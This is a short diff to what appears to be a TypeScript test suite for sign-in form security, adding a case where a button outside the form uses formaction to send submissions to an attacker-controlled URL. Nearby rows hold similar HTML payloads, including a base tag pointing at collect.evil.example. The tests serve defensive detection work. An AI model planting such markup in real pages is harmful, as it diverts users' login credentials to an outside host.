@@ -58,6 +58,14 @@ export const ACTIONS: readonly Row[] = [
     { form: SIGN_IN_FORM.replace('<button', `<button formaction="${EVIL}"`) },
     ACTION,
   ),
+  signIn(
+    'A4',
+    'a button outside of the form sends elsewhere',
+    {
+      form: `${SIGN_IN_FORM}<button form="form" formaction="${EVIL}">Go</button>`,
+    },
+    ACTION,
+  ),
   signIn('A4', 'a base sends elsewhere', { head: '<base href="https://collect.evil.example/">' }, ACTION),
   signIn(
     'A4',
